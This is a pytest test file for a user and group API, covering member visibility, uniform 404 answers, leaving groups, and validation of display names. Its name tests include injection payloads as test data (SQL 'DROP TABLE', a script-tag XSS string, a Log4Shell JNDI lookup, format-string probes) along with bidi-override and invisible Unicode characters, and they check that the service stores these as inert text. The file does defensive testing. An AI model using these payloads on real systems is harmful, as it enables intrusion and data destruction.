from datetime import datetime
from typing import Any
from uuid import uuid4

import pytest
from sqlalchemy.orm import Session

from tests import factories
from tests.api import Api


def test_i_see_the_people_of_my_groups_and_nothing_of_theirs_elsewhere(
    api: Api, session: Session
) -> None:
    una, ari, bera, stranger = (
        factories.someone(session, name=name) for name in ("Una", "Ari", "Bera", "Stranger")
    )
    hearth = factories.group(session, una, ari)
    boat = factories.group(session, ari, una, bera)
    elsewhere = factories.group(session, stranger, ari)

    people = api.as_(una.token).get("/api/users").json["users"]

    assert {
        person["name"]: {group["groupId"]: group["role"] for group in person["groups"]}
        for person in people
    } == {
        "Una": {str(hearth): "admin", str(boat): "member"},
        "Ari": {str(hearth): "member", str(boat): "admin"},
        "Bera": {str(boat): "member"},
    }
    assert str(elsewhere) not in api.as_(una.token).get("/api/users").text


def test_a_person_is_shown_as_in_the_list(api: Api, session: Session) -> None:
    una, ari = factories.someone(session), factories.someone(session, name="Ari")
    hearth = factories.group(session, una, ari)
    factories.group(session, ari)

    found = api.as_(una.token).get(f"/api/users/{ari.user_id}")

    joined_at = found.json["groups"][0]["joinedAt"]
    assert found.status == 200
    assert found.json == {
        "id": str(ari.user_id),
        "name": "Ari",
        "groups": [
            {
                "groupId": str(hearth),
                "role": "member",
                "joinedAt": joined_at,
                "devices": [],
                "phones": [],
            }
        ],
    }
    assert datetime.fromisoformat(joined_at) < factories.now(session)
    assert found.json in api.as_(una.token).get("/api/users").json["users"]


def test_a_stranger_and_nobody_are_answered_alike(api: Api, session: Session) -> None:
    una, stranger = factories.someone(session), factories.someone(session)
    factories.group(session, una)
    factories.group(session, stranger)

    known_elsewhere = api.as_(una.token).get(f"/api/users/{stranger.user_id}")
    nobody = api.as_(una.token).get(f"/api/users/{uuid4()}")

    assert (known_elsewhere.status, known_elsewhere.code) == (404, "user_not_found")
    assert {**nobody.json, "requestId": ""} == {**known_elsewhere.json, "requestId": ""}


def test_whoever_has_left_sees_nobody_and_is_not_seen(api: Api, session: Session) -> None:
    una, ari = factories.someone(session), factories.someone(session)
    hearth = factories.group(session, una, ari)
    api.as_(ari.token).post(f"/api/groups/{hearth}/leave")

    left = api.as_(ari.token).get("/api/users")
    there = api.as_(una.token).get("/api/users")

    assert left.json == {"users": []}
    assert [person["id"] for person in there.json["users"]] == [str(una.user_id)]
    assert api.as_(una.token).get(f"/api/users/{ari.user_id}").status == 404


def test_a_name_can_be_changed_and_others_see_it(api: Api, session: Session) -> None:
    una, ari = factories.someone(session, name="Una"), factories.someone(session, name="Ari")
    factories.group(session, una, ari)

    renamed = api.as_(una.token).patch("/api/users/me", {"name": "  Una Þóra "})

    assert (renamed.status, renamed.text) == (204, "")
    assert api.as_(una.token).get("/api/auth/me").json["name"] == "Una Þóra"
    assert api.as_(ari.token).get(f"/api/users/{una.user_id}").json["name"] == "Una Þóra"
    assert api.as_(ari.token).get("/api/auth/me").json["name"] == "Ari"


@pytest.mark.parametrize(
    "name",
    [
        "'; DROP TABLE users; --",
        "%s %(name)s {0} $1 \\u0000 \\",
        "<script>alert('Una')</script>&amp;",
        "${jndi:ldap://example.org/x}",
        "می\u200cخواهم 👩\u200d👧",  # noqa: RUF001 -- both need what nobody sees
    ],
)
def test_a_name_is_text_and_means_nothing_to_the_service(
    api: Api, session: Session, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    una, ari = factories.someone(session, name="Una"), factories.someone(session, name="Ari")
    factories.group(session, una, ari)

    renamed = api.as_(una.token).patch("/api/users/me", {"name": name})

    assert renamed.status == 204
    assert api.as_(ari.token).get(f"/api/users/{una.user_id}").json["name"] == name
    assert api.as_(ari.token).get("/api/auth/me").json["name"] == "Ari"
    assert name not in capsys.readouterr().out


@pytest.mark.parametrize(
    "name",
    [
        "Bea \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "\u05d0\u05d1\u05d9\u200f",
        "\u2764\ufe0f",
        "\U0001fae8",
        "\U0001faea",  # newer than this Python
    ],
    ids=ascii,
)
def test_a_name_may_have_invisible_characters_beside_what_shows(
    api: Api, session: Session, name: str
) -> None:
    una = factories.someone(session, name="Una")

    assert api.as_(una.token).patch("/api/users/me", {"name": name}).status == 204
    assert api.as_(una.token).get("/api/auth/me").json["name"] == name


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"name": ""},
        {"name": "x" * 65},
        {"name": None},
        {"name": "U", "id": "x"},
        *({"name": f"Una{steers}x"} for steers in "\x1b\x7f\x80\x9b\x9f\u2028\u2029\u202e\u2066"),
        *(
            {"name": blank}
            for blank in "\u200b\u2060\u3164\uffa0\u2800\u115f\u1160\u034f\ufe0f\u17b4"
        ),
        *({"name": 3 * blank} for blank in "\u180e\u2065\u00ad\u061c\ufffc\U000e0041\U000e0100"),
    ],
)
def test_what_is_no_name_changes_nothing(api: Api, session: Session, body: dict[str, Any]) -> None:
    una = factories.someone(session, name="Una")

    refused = api.as_(una.token).patch("/api/users/me", body)

    assert (refused.status, refused.code) == (422, "invalid_request")
    assert api.as_(una.token).get("/api/auth/me").json["name"] == "Una"
